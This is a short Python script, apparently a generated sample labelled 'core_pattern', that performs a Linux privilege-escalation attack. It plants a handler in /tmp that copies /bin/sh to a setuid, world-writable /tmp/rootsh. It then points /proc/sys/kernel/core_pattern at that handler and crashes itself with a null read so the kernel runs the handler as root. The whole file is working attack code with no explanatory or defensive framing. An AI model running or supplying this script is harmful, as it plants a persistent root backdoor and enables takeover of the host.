# class: core_pattern; style: short functions
import ctypes
import os


def plant(path):
    with open(path, "w") as fh:
        fh.write("#!/bin/sh\ncp /bin/sh /tmp/rootsh; chmod 4777 /tmp/rootsh\n")
    os.chmod(path, 0o755)


def register(path):
    with open("/proc/sys/kernel/core_pattern", "w") as fh:
        fh.write("|" + path)


plant("/tmp/handler")
register("/tmp/handler")
ctypes.string_at(0)
